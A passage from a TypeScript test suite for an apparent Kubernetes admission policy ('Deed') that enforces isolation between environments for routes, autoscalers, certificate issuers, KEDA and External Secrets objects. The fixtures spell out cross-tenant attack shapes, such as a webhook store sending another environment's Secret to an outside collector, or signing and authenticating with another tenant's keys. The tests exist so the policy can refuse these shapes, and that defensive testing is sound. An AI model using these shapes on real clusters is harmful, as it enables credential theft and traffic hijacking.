    admitted(review(HTTPROUTES, ARGO, attached({ name: 'alpha-gw' })));
  });

  test("in mesh mode, beta's route may not take a Service of alpha's as its parent (and steer alpha's clients)", () => {
    refused(review(HTTPROUTES, RUNNER_B, attached({ group: '', kind: 'Service', name: 'alpha-svc', port: 80 })), 'reference.cross-environment', /spec\.parentRefs\[0\]: names Service alpha-svc, which belongs to another environment \(the gateway controller serves the route on the parent Gateway's listeners \(for a Service parent, the mesh steers the Service's clients by it\)\)/);
    refused(review(GRPCROUTES, RUNNER_B, attached({ group: '', kind: 'Service', name: 'alpha-api', namespace: 'sandbox-a' })), 'reference.cross-environment', /spec\.parentRefs\[0\]: names Service sandbox-a\/alpha-api/);
    admitted(review(HTTPROUTES, RUNNER_A, attached({ group: '', kind: 'Service', name: 'alpha-svc' })));
    admitted(review(HTTPROUTES, RUNNER_B, attached({ group: '', kind: 'Service', name: 'beta-svc' })));
  });

  test("a parent Gateway in another namespace is judged there; outside the review scope it is the platform's; one that does not exist is refused but where the writer's environment is bound", () => {
    refused(review(HTTPROUTES, RUNNER_B, attached({ name: 'alpha-edge', namespace: 'sandbox-a' })), 'reference.cross-environment', /spec\.parentRefs\[0\]: names Gateway sandbox-a\/alpha-edge, which belongs to another environment/);
    admitted(review(HTTPROUTES, RUNNER_A, attached({ name: 'alpha-edge', namespace: 'sandbox-a' })));
    const scope: ReviewScope = { of: (ns) => (ns === 'gateway-infra' ? { state: 'out', why: 'not labelled' } : { state: 'in' }) };
    const lookup = lookupOf(CLUSTER);
    const out = decide('admit', review(HTTPROUTES, RUNNER_B, attached({ name: 'public', namespace: 'gateway-infra' })), { ...testContext(POLICY, NOW, undefined, lookup), scope });
    assert.ok(out.kind === 'review' && out.response.response.allowed, JSON.stringify(out));
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('gateways/')), [], 'nothing read outside the scope');
    // Absent in the shared namespace: whoever creates it under that name later would take the route; in alpha's bound namespace, only alpha can.
    refused(review(HTTPROUTES, RUNNER_B, attached({ name: 'gone-gw' })), 'reference.absent', /spec\.parentRefs\[0\]: names Gateway gone-gw, which does not exist/);
    admitted(review(HTTPROUTES, RUNNER_A, attached({ name: 'gone-gw' }), { namespace: 'sandbox-a' }));
  });

  test("beta's ListenerSet may not add listeners to alpha's Gateway nor serve alpha's certificate; a route may not attach to alpha's ListenerSet", () => {
    const listenerSet = (parentRef: Record<string, unknown>, ...certificateRefs: Array<Record<string, unknown>>) => ({ spec: { parentRef, listeners: [{ name: 'https', protocol: 'HTTPS', port: 443, hostname: 'beta.example.com', tls: { mode: 'Terminate', certificateRefs } }] } });
    for (const g of [LISTENER_SETS, X_LISTENER_SETS]) {
      refused(review(g, RUNNER_B, listenerSet({ name: 'alpha-gw' }, { name: 'beta-tls' })), 'reference.cross-environment', /spec\.parentRef: names Gateway alpha-gw, which belongs to another environment \(the gateway controller adds the set's listeners to the parent Gateway\)/);
      refused(review(g, RUNNER_B, listenerSet({ name: 'shared-gw' }, { name: 'alpha-tls' })), 'reference.cross-environment', /spec\.listeners\[0\]\.tls\.certificateRefs\[0\]: names Secret alpha-tls, which belongs to another environment/);
      admitted(review(g, RUNNER_B, listenerSet({ name: 'shared-gw' }, { name: 'beta-tls' })));
      admitted(review(g, RUNNER_A, listenerSet({ group: 'gateway.networking.k8s.io', kind: 'Gateway', name: 'alpha-gw' }, { name: 'alpha-tls' })));
    }
    // A route's parent ListenerSet is read, and judged as a Gateway is.
    const onSet = (name: string) => attached({ group: 'gateway.networking.k8s.io', kind: 'ListenerSet', name, sectionName: 'https' });
    refused(review(HTTPROUTES, RUNNER_B, onSet('alpha-ls')), 'reference.cross-environment', /spec\.parentRefs\[0\]: names ListenerSet alpha-ls, which belongs to another environment/);
    admitted(review(HTTPROUTES, RUNNER_B, onSet('beta-ls')));
    admitted(review(HTTPROUTES, RUNNER_A, onSet('alpha-ls')));
  });

  test("a Gateway read for routes stays, as an owner, its operator's: a gateway controller of no environment may own its proxies by alpha's Gateway, and nothing reads it for that", () => {
    const ownedBy = (name: string, uid: string) => ({ metadata: controlledBy('Gateway', name, uid, 'gateway.networking.k8s.io/v1'), data: {} });
    const lookup = lookupOf(CLUSTER);
    const out = decide('admit', review(CONFIGMAPS_, NONE, ownedBy('alpha-gw', 'Gateway-uid')), testContext(POLICY, NOW, undefined, lookup));
    assert.ok(out.kind === 'review' && out.response.response.allowed, JSON.stringify(out));
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('gateways/')), [], 'an owner Gateway is not read');
    admitted(review(CONFIGMAPS_, NONE, ownedBy('shared-gw', 'shared-gw-uid')));
  });

  test('the references of routes and Gateways are found with their defaults, namespaces and paths; a hostile shape reads as none', () => {
    assert.deepEqual(
      objectReferences(HTTPROUTES, { apiVersion: apiVersion(HTTPROUTES), kind: 'HTTPRoute', metadata: {}, spec: { parentRefs: [{ name: 'gw' }, { kind: 'Gateway', name: 'edge', namespace: 'infra', sectionName: 'https' }, { group: '', kind: 'Service', name: 'mesh-svc', port: 80 }, { name: '' }, 'gw'] } } as KubeObject).map((r) => [r.path, r.group, r.kind, r.namespace ?? '', r.name]),
      [
        ['spec.parentRefs[0]', 'gateway.networking.k8s.io', 'Gateway', '', 'gw'],
        ['spec.parentRefs[1]', 'gateway.networking.k8s.io', 'Gateway', 'infra', 'edge'],
        ['spec.parentRefs[2]', '', 'Service', '', 'mesh-svc'],
      ],
    );
    const refs = (g: Gvr, obj: Record<string, unknown>) => objectReferences(g, { apiVersion: apiVersion(g), kind: g.kind, metadata: {}, ...obj } as KubeObject).map((r) => [r.path, r.group, r.kind, r.namespace ?? '', r.name]);
    assert.deepEqual(refs(HTTPROUTES, { spec: { rules: [{ filters: [{ requestMirror: { backendRef: { name: 'm', namespace: 'other' } } }], backendRefs: [{ name: 'a' }, { group: 'multicluster.x-k8s.io', kind: 'ServiceImport', name: 'b' }, { name: 'c', filters: [{ requestMirror: { backendRef: { kind: 'Service', name: 'd' } } }] }] }] } }), [
      ['spec.rules[0].backendRefs[0]', '', 'Service', '', 'a'],
      ['spec.rules[0].backendRefs[1]', 'multicluster.x-k8s.io', 'ServiceImport', '', 'b'],
      ['spec.rules[0].backendRefs[2]', '', 'Service', '', 'c'],
      ['spec.rules[0].filters[0].requestMirror.backendRef', '', 'Service', 'other', 'm'],
      ['spec.rules[0].backendRefs[2].filters[0].requestMirror.backendRef', '', 'Service', '', 'd'],
    ]);
    assert.deepEqual(refs(GATEWAYS, { spec: { ...gateway({ name: 'tls' }, { name: 'x', namespace: 'certs' }).spec, tls: { backend: { clientCertificateRef: { name: 'client' } } } } }), [
      ['spec.listeners[0].tls.certificateRefs[0]', '', 'Secret', '', 'tls'],
      ['spec.listeners[0].tls.certificateRefs[1]', '', 'Secret', 'certs', 'x'],
      ['spec.tls.backend.clientCertificateRef', '', 'Secret', '', 'client'],
    ]);
    for (const spec of [null, 'x', { rules: 'x' }, { rules: [null, { backendRefs: [{ name: 7 }, { name: '' }, 'svc', null] }] }, { listeners: [{ tls: { certificateRefs: [{ kind: 'Secret' }] } }] }])
      for (const g of [HTTPROUTES, GATEWAYS]) assert.deepEqual(refs(g, { spec }), []);
  });
});

describe('a VPA, a KEDA ScaledObject or an Argo Rollout names only a workload its writer environment may use', () => {
  const kinds: Array<[Gvr, string, (ref: Record<string, unknown>) => Record<string, unknown>, RegExp]> = [
    [VPAS, 'spec.targetRef', vpa, /the VPA updater evicts the target's pods and the VPA admission controller rewrites their resource requests/],
    [SCALED_OBJECTS, 'spec.scaleTargetRef', scaledObject, /the KEDA operator scales the target, to zero when idle, itself and through the HPA it creates/],
    [ROLLOUTS, 'spec.workloadRef', rollout, /the Argo Rollouts controller runs the Deployment's pod template as the Rollout's and, with scaleDown, scales the Deployment to zero/],
  ];

  test("beta's naming alpha's Deployment is refused at the field, naming who acts on it; alpha's and beta's own are admitted", () => {
    for (const [g, path, make, follower] of kinds) {
      const message = refused(review(g, RUNNER_B, make(target('alpha-web'))), 'reference.cross-environment', new RegExp(`${path.replace('.', '\\.')}: names Deployment alpha-web, which belongs to another environment`));
      assert.match(message, follower);
      assert.match(message, /environment "beta" may not/);
      admitted(review(g, RUNNER_A, make(target('alpha-web'))));
      admitted(review(g, RUNNER_B, make(target('beta-web'))));
    }
  });

  test("a principal of no environment may name an unstamped Deployment, not alpha's; the platform's writes are not judged", () => {
    for (const [g, , make] of kinds) {
      admitted(review(g, NONE, make(target('platform-web'))));
      refused(review(g, NONE, make(target('alpha-web'))), 'reference.cross-environment', /stranger acts for no environment and may not/);
      admitted(review(g, ARGO, make(target('alpha-web'))));
      admitted(review(g, ADMIN, make(target('alpha-web'))));
    }
  });

  test("a ScaledObject's target without apiVersion or kind is KEDA's default, an apps/v1 Deployment, and judged as one", () => {
    for (const ref of [{ name: 'alpha-web' }, { kind: 'Deployment', name: 'alpha-web' }, { apiVersion: 'apps/v1', name: 'alpha-web' }, { apiVersion: '', kind: '', name: 'alpha-web' }])
      refused(review(SCALED_OBJECTS, RUNNER_B, scaledObject(ref)), 'reference.cross-environment', /spec\.scaleTargetRef: names Deployment alpha-web, which belongs to another environment/);
    admitted(review(SCALED_OBJECTS, RUNNER_A, scaledObject({ name: 'alpha-web' })));
    admitted(review(SCALED_OBJECTS, RUNNER_B, scaledObject({ name: 'beta-web' })));
    const refs = (obj: Record<string, unknown>) => objectReferences(SCALED_OBJECTS, { apiVersion: apiVersion(SCALED_OBJECTS), kind: 'ScaledObject', metadata: {}, ...obj } as KubeObject).map((r) => [r.path, r.group, r.kind, r.name]);
    assert.deepEqual(refs(scaledObject({ name: 'web' })), [['spec.scaleTargetRef', 'apps', 'Deployment', 'web']]);
    // Each default stands alone, as KEDA reads them: a kind without apiVersion is of group apps, an apiVersion without kind names a Deployment.
    assert.deepEqual(refs(scaledObject({ kind: 'StatefulSet', name: 'db' })), [['spec.scaleTargetRef', 'apps', 'StatefulSet', 'db']]);
    assert.deepEqual(refs(scaledObject({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', name: 'web' })), [['spec.scaleTargetRef', 'argoproj.io', 'Rollout', 'web']]);
    for (const spec of [null, 'x', { scaleTargetRef: 'web' }, { scaleTargetRef: { name: '' } }, { scaleTargetRef: { kind: 'Deployment' } }, { scaleTargetRef: { name: 7 } }]) assert.deepEqual(refs({ spec }), []);
    // The HPA's, and the other rows' without a default, still name nothing without a kind.
    assert.deepEqual(objectReferences(HPA, { apiVersion: 'autoscaling/v2', kind: 'HorizontalPodAutoscaler', metadata: {}, spec: { scaleTargetRef: { name: 'web' } } } as KubeObject), []);
    assert.deepEqual(objectReferences(VPAS, { apiVersion: apiVersion(VPAS), kind: 'VerticalPodAutoscaler', metadata: {}, spec: { targetRef: { name: 'web' } } } as KubeObject), []);
  });

  test("a target of a kind Deed does not read comes only from the platform's principals, as the HPA's does", () => {
    for (const [g, , make] of kinds) {
      refused(review(g, RUNNER_B, make(target('web', 'Rollout', 'argoproj.io/v1alpha1'))), 'reference.unknown', /names Rollout web \(argoproj\.io\), a kind Deed does not read/);
      admitted(review(g, ARGO, make(target('web', 'Rollout', 'argoproj.io/v1alpha1'))));
    }
  });

  test('a target that does not exist is refused, and one Deed cannot read now is refused (fail closed)', () => {
    for (const [g, , make] of kinds) {
      refused(review(g, RUNNER_B, make(target('gone'))), 'reference.absent', /names Deployment gone, which does not exist; create it first/);
      refused(review(g, RUNNER_B, make(target('unlisted'))), 'reference.unknown', /cannot tell which environment Deployment unlisted belongs to: not in the test table/);
    }
  });

  test("an UPDATE that retargets beta's to alpha's Deployment is refused; one that keeps the target, or spells out KEDA's defaults, reads nothing", () => {
    for (const [g, , make] of kinds) refused(review(g, RUNNER_B, make(target('alpha-web')), { operation: 'UPDATE', old: make(target('beta-web')) }), 'reference.cross-environment');
    refused(review(SCALED_OBJECTS, RUNNER_B, scaledObject({ name: 'alpha-web' }), { operation: 'UPDATE', old: scaledObject({ name: 'beta-web' }) }), 'reference.cross-environment');
    const lookup = lookupOf({});
    const body = review(SCALED_OBJECTS, RUNNER_B, { spec: { ...scaledObject(target('beta-web')).spec, minReplicaCount: 1 } }, { operation: 'UPDATE', old: scaledObject({ name: 'beta-web' }) });
    body.request.oldObject.metadata = { ...body.request.oldObject.metadata, ...owned('ScaledObject', 'beta').metadata };
    body.request.object.metadata = body.request.oldObject.metadata;
    assert.equal(answer('validate', body, lookup).allowed, true);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('deployments/')), []);
  });
});

describe("an Issuer or a KEDA TriggerAuthentication hands its operator only its writer environment's credentials", () => {
  test("beta's Issuer may not sign with alpha's CA key, nor act with alpha's ACME, DNS or Vault credentials; its own are admitted; an ACME account key not made yet is refused (cert-manager would make it of no environment)", () => {
    refused(review(ISSUERS, RUNNER_B, { spec: { ca: { secretName: 'alpha-tls' } } }), 'reference.cross-environment', /spec\.ca\.secretName: names Secret alpha-tls, which belongs to another environment \(cert-manager signs every Certificate that names the Issuer with the Secret's CA key\)/);
    admitted(review(ISSUERS, RUNNER_A, { spec: { ca: { secretName: 'alpha-tls' } } }));
    admitted(review(ISSUERS, RUNNER_B, { spec: { ca: { secretName: 'beta-tls' } } }));
    const acme = (extra: Record<string, unknown>) => ({ spec: { acme: { server: 'https://acme.example/directory', privateKeySecretRef: { name: 'beta-tls' }, disableAccountKeyGeneration: true, ...extra } } });
    refused(review(ISSUERS, RUNNER_B, acme({ privateKeySecretRef: { name: 'new-account' } })), 'reference.absent', /spec\.acme\.privateKeySecretRef\.name: names Secret new-account, which does not exist; create it first.*creates one that does not exist with no owner reference, of no environment/);
    admitted(review(ISSUERS, RUNNER_B, acme({})));
    // Without disableAccountKeyGeneration, cert-manager re-creates the key, ownerless, whenever it is deleted.
    refused(review(ISSUERS, RUNNER_B, acme({ disableAccountKeyGeneration: false })), 'guard.unowned-output', /spec\.acme\.disableAccountKeyGeneration: system:serviceaccount:sandbox-b:runner may not create Issuer shared\/obj with spec\.acme\.disableAccountKeyGeneration false: cert-manager would create its ACME account key Secret .* set disableAccountKeyGeneration: true/);
    const unflagged = { spec: { acme: { server: 'https://acme.example/directory', privateKeySecretRef: { name: 'beta-tls' } } } };
    refused(review(ISSUERS, RUNNER_B, unflagged), 'guard.unowned-output', /disableAccountKeyGeneration unset/);
    // A requester of no environment makes objects of none: cert-manager's ordinary flow, a key generated for it, passes.
    admitted(review(ISSUERS, NONE, { spec: { acme: { server: 'https://acme.example/directory', privateKeySecretRef: { name: 'new-account' } } } }));
    refused(review(ISSUERS, RUNNER_B, acme({ privateKeySecretRef: { name: 'alpha-tls' } })), 'reference.cross-environment', /spec\.acme\.privateKeySecretRef\.name: names Secret alpha-tls/);
    refused(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { ingress: {} } }, { dns01: { cloudflare: { apiTokenSecretRef: { name: 'alpha-tls', key: 'token' } } } }] })), 'reference.cross-environment', /spec\.acme\.solvers\[1\]\.dns01\.cloudflare\.apiTokenSecretRef\.name: names Secret alpha-tls/);
    refused(review(ISSUERS, RUNNER_B, { spec: { vault: { server: 'https://vault.example', path: 'pki/sign/x', auth: { tokenSecretRef: { name: 'alpha-tls', key: 'token' } } } } }), 'reference.cross-environment', /spec\.vault\.auth\.tokenSecretRef\.name: names Secret alpha-tls/);
    // An HTTP01 solver may not publish its challenge on alpha's Gateway (a public CA would then issue for alpha's hostnames), nor edit an Ingress.
    refused(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { gatewayHTTPRoute: { parentRefs: [{ name: 'alpha-gw', sectionName: 'http' }] } } }] })), 'reference.cross-environment', /spec\.acme\.solvers\[0\]\.http01\.gatewayHTTPRoute\.parentRefs\[0\]: names Gateway alpha-gw, which belongs to another environment \(cert-manager attaches its challenge route to the Gateway/);
    admitted(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { gatewayHTTPRoute: { parentRefs: [{ name: 'shared-gw' }] } } }] })));
    // An Ingress is read (its TLS Secrets are cached for reference.live-reader): beta's solver may edit beta's own, not alpha's, the platform's or one not made yet.
    refused(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { ingress: { name: 'alpha-web' } } }] })), 'reference.cross-environment', /spec\.acme\.solvers\[0\]\.http01\.ingress\.name: names Ingress alpha-web, which belongs to another environment \(cert-manager adds its challenge path to the Ingress/);
    refused(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { ingress: { name: 'platform-web' } } }] })), 'reference.cross-environment', /names Ingress platform-web, which carries no stamps in a namespace bound to no environment: it is the platform's/);
    refused(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { ingress: { name: 'gone-web' } } }] })), 'reference.absent', /names Ingress gone-web, which does not exist; create it first/);
    admitted(review(ISSUERS, RUNNER_B, acme({ solvers: [{ http01: { ingress: { name: 'beta-web' } } }] })));
    // A CA key that does not exist yet could be alpha's, made later under that name.
    refused(review(ISSUERS, RUNNER_B, { spec: { ca: { secretName: 'new-tls' } } }), 'reference.absent', /spec\.ca\.secretName: names Secret new-tls, which does not exist/);
  });

  test("beta's TriggerAuthentication may not hand KEDA alpha's Secret or ConfigMap; a trigger may not name alpha's TriggerAuthentication", () => {
    refused(review(TRIGGER_AUTHS, RUNNER_B, { spec: { secretTargetRef: [{ parameter: 'authHeader', name: 'alpha-tls', key: 'token' }] } }), 'reference.cross-environment', /spec\.secretTargetRef\[0\]\.name: names Secret alpha-tls, which belongs to another environment \(the KEDA operator reads the Secret's key/);
    refused(review(TRIGGER_AUTHS, RUNNER_B, { spec: { configMapTargetRef: [{ parameter: 'host', name: 'alpha-settings', key: 'host' }] } }), 'reference.cross-environment', /spec\.configMapTargetRef\[0\]\.name: names ConfigMap alpha-settings/);
    admitted(review(TRIGGER_AUTHS, RUNNER_A, { spec: { secretTargetRef: [{ parameter: 'authHeader', name: 'alpha-tls', key: 'token' }] } }));
    // Nor sign in to a cloud secret manager with alpha's credentials.
    refused(review(TRIGGER_AUTHS, RUNNER_B, { spec: { azureKeyVault: { vaultUri: 'https://beta.vault.azure.net', credentials: { clientId: 'x', tenantId: 'y', clientSecret: { valueFrom: { secretKeyRef: { name: 'alpha-tls', key: 'secret' } } } }, secrets: [{ parameter: 'connection', name: 'db' }] } } }), 'reference.cross-environment', /spec\.azureKeyVault\.credentials\.clientSecret\.valueFrom\.secretKeyRef\.name: names Secret alpha-tls/);
    refused(review(TRIGGER_AUTHS, RUNNER_B, { spec: { awsSecretManager: { credentials: { accessKey: { valueFrom: { secretKeyRef: { name: 'beta-tls', key: 'id' } } }, accessSecretKey: { valueFrom: { secretKeyRef: { name: 'alpha-tls', key: 'key' } } } }, secrets: [{ parameter: 'p', name: 'db' }] } } }), 'reference.cross-environment', /spec\.awsSecretManager\.credentials\.accessSecretKey\.valueFrom\.secretKeyRef\.name: names Secret alpha-tls/);
    const triggered = (authenticationRef: Record<string, unknown>, target = 'beta-web') => ({ spec: { ...scaledObject({ name: target }).spec, triggers: [{ type: 'metrics-api', metadata: { url: 'https://beta.example/metrics', targetValue: '1', authMode: 'bearer' }, authenticationRef }] } });
    for (const g of [SCALED_OBJECTS, SCALED_JOBS]) {
      refused(review(g, RUNNER_B, triggered({ name: 'alpha-auth' })), 'reference.cross-environment', /spec\.triggers\[0\]\.authenticationRef: names TriggerAuthentication alpha-auth, which belongs to another environment \(the KEDA operator hands the credentials it holds to the trigger's scaler/);
      refused(review(g, RUNNER_B, triggered({ name: 'alpha-auth', kind: 'TriggerAuthentication' })), 'reference.cross-environment', /names TriggerAuthentication alpha-auth/);
      admitted(review(g, RUNNER_B, triggered({ name: 'beta-auth' })));
      admitted(review(g, RUNNER_A, triggered({ name: 'alpha-auth' }, 'alpha-web')));
    }
    // A ClusterTriggerAuthentication is the platform's: admitted, nothing read.
    const lookup = lookupOf(CLUSTER);
    admitted(review(SCALED_OBJECTS, RUNNER_B, triggered({ name: 'global', kind: 'ClusterTriggerAuthentication' })), lookup);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('triggerauthentications/')), []);
  });
});

describe("an ExternalSecret, a PushSecret or a SecretStore uses only its writer environment's stores and credentials", () => {
  const externalSecret = (store: Record<string, unknown>, target = 'db-creds') => ({ spec: { refreshInterval: '1h', secretStoreRef: store, target: { name: target }, data: [{ secretKey: 'password', remoteRef: { key: 'db/password' } }] } });

  test("beta's ExternalSecret may not fetch through alpha's SecretStore, nor write into alpha's Secret; its own, and a ClusterSecretStore, are admitted", () => {
    refused(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret({ name: 'alpha-vault' })), 'reference.cross-environment', /spec\.secretStoreRef: names SecretStore alpha-vault, which belongs to another environment \(the External Secrets operator fetches with the store's credentials/);
    refused(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret({ name: 'alpha-vault', kind: 'SecretStore' })), 'reference.cross-environment', /names SecretStore alpha-vault/);
    // A per-item store overrides the object's.
    const perItem = { spec: { ...externalSecret({ name: 'beta-vault' }).spec, dataFrom: [{ extract: { key: 'db' }, sourceRef: { storeRef: { name: 'alpha-vault' } } }] } };
    refused(review(EXTERNAL_SECRETS, RUNNER_B, perItem), 'reference.cross-environment', /spec\.dataFrom\[0\]\.sourceRef\.storeRef: names SecretStore alpha-vault/);
    refused(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret({ name: 'beta-vault' }, 'alpha-tls')), 'reference.cross-environment', /spec\.target\.name: names Secret alpha-tls, which belongs to another environment/);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret({ name: 'beta-vault' })));
    admitted(review(EXTERNAL_SECRETS, RUNNER_A, externalSecret({ name: 'alpha-vault' }, 'alpha-tls')));
    // A template's sources are read into the target: beta's may not read alpha's Secret or ConfigMap.
    const templated = (templateFrom: unknown[]) => ({ spec: { ...externalSecret({ name: 'beta-vault' }).spec, target: { name: 'db-creds', template: { templateFrom } } } });
    refused(review(EXTERNAL_SECRETS, RUNNER_B, templated([{ secret: { name: 'alpha-tls', items: [{ key: 'tls.key' }] } }])), 'reference.cross-environment', /spec\.target\.template\.templateFrom\[0\]\.secret\.name: names Secret alpha-tls, which belongs to another environment/);
    refused(review(EXTERNAL_SECRETS, RUNNER_B, templated([{ configMap: { name: 'alpha-settings', items: [{ key: 'host' }] } }])), 'reference.cross-environment', /templateFrom\[0\]\.configMap\.name: names ConfigMap alpha-settings/);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, templated([{ secret: { name: 'beta-tls', items: [{ key: 'tls.crt' }] } }])));
    const lookup = lookupOf(CLUSTER);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret({ name: 'global', kind: 'ClusterSecretStore' })), lookup);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('secretstores/')), []);
  });

  test("beta's PushSecret may not push alpha's Secret out, nor push through alpha's store; beta's SecretStore may not authenticate with alpha's credentials", () => {
    const push = (store: string, secret: string) => ({ spec: { secretStoreRefs: [{ name: store, kind: 'SecretStore' }], selector: { secret: { name: secret } }, data: [{ match: { secretKey: 'tls.key', remoteRef: { remoteKey: 'copied' } } }] } });
    refused(review(PUSH_SECRETS, RUNNER_B, push('beta-vault', 'alpha-tls')), 'reference.cross-environment', /spec\.selector\.secret\.name: names Secret alpha-tls, which belongs to another environment \(the External Secrets operator reads the Secret and pushes its data/);
    refused(review(PUSH_SECRETS, RUNNER_B, push('alpha-vault', 'beta-tls')), 'reference.cross-environment', /spec\.secretStoreRefs\[0\]: names SecretStore alpha-vault/);
    admitted(review(PUSH_SECRETS, RUNNER_B, push('beta-vault', 'beta-tls')));
    const vault = (secret: string) => ({ spec: { provider: { vault: { server: 'https://vault.example', path: 'secret', auth: { tokenSecretRef: { name: secret, key: 'token' } } } } } });
    refused(review(SECRET_STORES, RUNNER_B, vault('alpha-tls')), 'reference.cross-environment', /spec\.provider\.vault\.auth\.tokenSecretRef\.name: names Secret alpha-tls, which belongs to another environment \(the External Secrets operator authenticates with the Secret's credentials/);
    refused(review(SECRET_STORES, RUNNER_B, { spec: { provider: { aws: { service: 'SecretsManager', region: 'eu-west-1', auth: { secretRef: { accessKeyIDSecretRef: { name: 'beta-tls', key: 'id' }, secretAccessKeySecretRef: { name: 'alpha-tls', key: 'key' } } } } } } }), 'reference.cross-environment', /spec\.provider\.aws\.auth\.secretRef\.secretAccessKeySecretRef\.name: names Secret alpha-tls/);
    admitted(review(SECRET_STORES, RUNNER_B, vault('beta-tls')));
    admitted(review(SECRET_STORES, RUNNER_A, vault('alpha-tls')));
  });
});

describe("a SecretStore of any provider names only its writer environment's Secrets, and one whose fields Deed does not know is written only where every Secret is the writer's", () => {
  const store = (provider: Record<string, unknown>) => ({ spec: { provider } });
  const webhook = (secret: string) => ({ webhook: { url: 'https://collector.example/{{ .remoteRef.key }}', headers: { Authorization: 'Bearer {{ .auth.token }}' }, secrets: [{ name: 'auth', secretRef: { name: secret } }] } });

  test("beta's webhook, GitLab, Infisical or OpenBao store may not send alpha's Secret to a server of beta's choosing; its own Secret it may", () => {
    refused(review(SECRET_STORES, RUNNER_B, store(webhook('alpha-tls'))), 'reference.cross-environment', /spec\.provider\.webhook\.secrets\[0\]\.secretRef\.name: names Secret alpha-tls, which belongs to another environment \(the External Secrets operator authenticates with the Secret's credentials/);
    refused(review(SECRET_STORES, RUNNER_B, store({ gitlab: { url: 'https://gitlab.beta.example', auth: { SecretRef: { accessToken: { name: 'alpha-tls', key: 'token' } } } } })), 'reference.cross-environment', /spec\.provider\.gitlab\.auth\.SecretRef\.accessToken\.name: names Secret alpha-tls/);
    refused(review(SECRET_STORES, RUNNER_B, store({ infisical: { hostAPI: 'https://beta.example', auth: { universalAuthCredentials: { clientId: { name: 'beta-tls', key: 'id' }, clientSecret: { name: 'alpha-tls', key: 'secret' } } } } })), 'reference.cross-environment', /spec\.provider\.infisical\.auth\.universalAuthCredentials\.clientSecret\.name: names Secret alpha-tls/);
    refused(review(SECRET_STORES, RUNNER_B, store({ openBao: { server: 'https://bao.beta.example', auth: { tokenSecretRef: { name: 'alpha-tls', key: 'token' } } } })), 'reference.cross-environment', /spec\.provider\.openBao\.auth\.tokenSecretRef\.name: names Secret alpha-tls/);
    admitted(review(SECRET_STORES, RUNNER_B, store(webhook('beta-tls'))));
    admitted(review(SECRET_STORES, RUNNER_B, store({ fake: { data: [{ key: 'k', value: 'v' }] } })));
  });

  test('a provider Deed does not list is refused in a shared namespace, to an environment and to a requester of none; in a namespace bound to the writer\'s environment, and from the platform, it is admitted', () => {
    const unknown = store({ futurevault: { server: 'https://x.example', auth: { apiKey: { name: 'alpha-tls', key: 'k' } } } });
    refused(review(SECRET_STORES, RUNNER_B, unknown), 'reference.unknown', /spec\.provider\.futurevault: is a provider whose fields Deed does not know, so which Secrets it names, and whose they are, cannot be known/);
    refused(review(SECRET_STORES, NONE, unknown), 'reference.unknown', /spec\.provider\.futurevault: is a provider whose fields Deed does not know/);
    // Beside a listed one, the unlisted key is still judged (the operator refuses two providers, but Deed does not rely on it).
    refused(review(SECRET_STORES, RUNNER_B, store({ ...webhook('beta-tls'), 'odd key': {} })), 'reference.unknown', /spec\.provider\["odd key"\]: is a provider whose fields Deed does not know/);
    admitted(review(SECRET_STORES, RUNNER_A, unknown, { namespace: 'sandbox-a' }));
    admitted(review(SECRET_STORES, ARGO, unknown));
  });

  test('an UPDATE judges an unlisted provider again only when what it holds changes', () => {
    const before = { metadata: { name: 's' }, spec: { provider: { futurevault: { auth: { apiKey: { name: 'beta-tls' } } } } } } as unknown as KubeObject;
    const relabelled = { ...before, metadata: { name: 's', labels: { team: 'x' } } } as KubeObject;
    assert.deepEqual(changedReferences(SECRET_STORES, before, relabelled), []);
    const repointed = { ...before, spec: { provider: { futurevault: { auth: { apiKey: { name: 'alpha-tls' } } } } } } as unknown as KubeObject;
    assert.deepEqual(changedReferences(SECRET_STORES, before, repointed).map((r) => [r.path, r.unlisted]), [['spec.provider.futurevault', true]]);
    assert.deepEqual(referenceReads(objectReferences(SECRET_STORES, repointed), NS), [], 'an unlisted key names nothing to read');
  });

  test("beta's service account may not list alpha's Secret, which an operator signing in as the account reads with its own rights; its image pull Secrets are judged in the pods they are copied into", () => {
    refused(review(SERVICE_ACCOUNTS, RUNNER_B, { secrets: [{ name: 'alpha-tls' }] }), 'reference.cross-environment', /secrets\[0\]\.name: names Secret alpha-tls, which belongs to another environment \(an operator that authenticates as the account/);
    admitted(review(SERVICE_ACCOUNTS, RUNNER_B, { secrets: [{ name: 'beta-tls' }] }));
    // A chart's account may name its pull Secret before the chart creates it (Helm installs ServiceAccounts before Secrets).
    admitted(review(SERVICE_ACCOUNTS, RUNNER_B, { imagePullSecrets: [{ name: 'alpha-tls' }, { name: 'not-made-yet' }] }));
  });

  test("beta's TriggerAuthentication may not send alpha's Secret as its OAuth2 client secret, nor beta's analysis query Datadog with alpha's keys", () => {
    refused(review(TRIGGER_AUTHS, RUNNER_B, { spec: { oauth2: { type: 'clientCredentials', clientId: 'x', tokenUrl: 'https://beta.example/token', clientSecret: { valueFrom: { secretKeyRef: { name: 'alpha-tls', key: 'k' } } } } } }), 'reference.cross-environment', /spec\.oauth2\.clientSecret\.valueFrom\.secretKeyRef\.name: names Secret alpha-tls, which belongs to another environment \(the KEDA operator reads the Secret's key and sends it as the OAuth2 client secret/);
    const datadog = (name: string) => ({ spec: { metrics: [{ name: 'm', provider: { datadog: { apiVersion: 'v2', query: 'avg:x{*}', secretRef: { name, namespaced: true } } } }] } });
